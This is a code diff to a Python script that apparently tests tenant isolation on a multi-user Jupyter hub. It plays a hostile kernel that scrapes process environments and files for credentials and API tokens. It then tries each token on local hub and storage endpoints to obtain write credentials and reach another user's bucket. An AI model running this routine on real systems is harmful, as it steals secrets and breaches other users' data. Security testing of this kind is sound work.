@@ -1,12 +1,16 @@
 """What a hostile kernel does: looks for credentials everywhere, and tries each on another user.
 
-Runs in the kernel as it stands here, with BUCKET and OTHER put in; prints what it has found.
+Runs in the kernel as it stands here, with BUCKET, OTHER (a customer), VISITED (that user's name)
+and PORTS put in; prints what it has found.
 """
 
 # ruff: noqa: BLE001, S110, T201 - it goes on whatever happens, and its output is its answer
 
 from __future__ import annotations
 
+import contextlib
+import http.client
+import itertools
 import json
 import os
 import re
@@ -28,15 +32,18 @@ for process in Path("/proc").glob("[0-9]*"):
             environments += name == "environ"
         except OSError:
             pass
+PORTS: list[int] = []
+"""Those of everything that the hub has started. Not the store's own: on its machine SeaweedFS asks
+nobody for credentials at its filer, volumes and master, and so is not for users' machines."""
 SKIPPED = {"node_modules", ".git", ".venv", "site-packages", "__pycache__"}
-MOST = 3000
-"""Files of one place: a machine's temporary folder may hold a million."""
+MOST, DEEPEST = 1000, 7
+"""Files of one folder, and folders in one another: a temporary folder may hold a million."""
 
 for top in ("/tmp", "/home", "/root", "/run", "/var/tmp", str(Path.home())):  # noqa: S108
-    for folder, _, files in os.walk(top):
-        if folder.count("/") > 7:
-            continue
-        for file in files:
+    for folder, folders, files in os.walk(top):
+        deep = folder.count("/") > DEEPEST
+        folders[:] = [] if deep else [one for one in folders if one not in SKIPPED]
+        for file in files[:MOST]:
             path = Path(folder, file)
             try:
                 if path.is_file() and path.stat().st_size < 1_000_000:
@@ -87,6 +94,12 @@ def attack(client: Any, whose: str) -> None:
                 pass
 
 
+tokens: set[str] = set()
+for text in texts:
+    tokens |= set(re.findall(r"(?:JUPYTERHUB_API_TOKEN|JPY_API_TOKEN)=(\S+)", text))
+    for file in re.findall(r"AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE=(\S+)", text):
+        with contextlib.suppress(OSError):
+            tokens.add(Path(file).read_text("utf-8"))
 quick = Config(retries={"total_max_attempts": 1}, connect_timeout=3, read_timeout=5)
 own: Any = boto3.client("s3", config=quick)
 own.list_objects_v2(Bucket="BUCKET", Prefix=os.environ["USER_S3_PATH"].split("/", 3)[3])
@@ -103,12 +116,76 @@ for key, hidden_key, session in pairs:
         ),
         key,
     )
+
+
+ASKED = b'{"folder": null, "access": "write", "seconds": 900}'
+"""What the hub's service is asked for."""
+PAGES = (
+    ("GET", "/credentials", None),
+    ("POST", "/services/storage/credentials", ASKED),
+    ("GET", "/hub/api/users/VISITED", None),
+    ("POST", "/hub/api/users/VISITED/tokens", b"{}"),
+    ("GET", "/user/VISITED/api/contents", None),
+    ("GET", "/user/VISITED/wherobots-storage/api/v1/files?path=/data/OTHER/", None),
+    ("POST", "/user/VISITED/wherobots-storage/api/v1/credentials", b'{"access": "write"}'),
+)
+"""What a port may have to give: a kernel's endpoint, the service, the hub, the other's server."""
+
+
+def ask(port: int, method: str, page: str, asked: bytes | None, token: str) -> str | None:
+    """What comes for a token; None for a refusal. Raises OSError where there is no HTTP."""
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
+    try:
+        headers = {"Authorization": token, "Content-Type": "application/json"}
+        connection.request(method, page, asked, headers)
+        answer = connection.getresponse()
+        said = answer.read(1_000_000).decode("utf-8", "replace")
+    except http.client.HTTPException as error:
+        raise OSError from error
+    finally:
+        connection.close()
+    return said if answer.status in {200, 201} else None
+
+
+def vended_by(said: str) -> dict[str, str]:
+    """The credentials in an answer, by their names in lower case; empty when there are none."""
+    try:
+        found = {name.lower(): str(one) for name, one in json.loads(said).items()}
+    except (ValueError, AttributeError):
+        return {}
+    return found if "accesskeyid" in found else {}
+
+
+vended = 0
+for port in PORTS:
+    try:
+        ask(port, "GET", "/", None, "")
+    except OSError:
+        continue  # a kernel's own, say
+    for (method, page, asked), token, scheme in itertools.product(PAGES, tokens, ("", "token ")):
+        try:
+            said = ask(port, method, page, asked, scheme + token)
+        except OSError:
+            continue
+        given = vended_by(said or "")
+        vended += bool(given)
+        if given:
+            made_here: Any = boto3.Session(
+                given["accesskeyid"],
+                given["secretaccesskey"],
+                given.get("token", given.get("sessiontoken")),
+            )
+            attack(made_here.client("s3", config=quick), f"what {page} gave")
+        elif said is not None and "VISITED" in page:
+            reached.append(f"{method} {page}")
 print(
     json.dumps(
         {
             "uid": os.getuid(),
             "environments": environments,
             "credentials": len(pairs) + 1,
+            "tokens": len(tokens),
+            "vended": vended,
             "sockets": reachable,
             "reached": reached,
         }
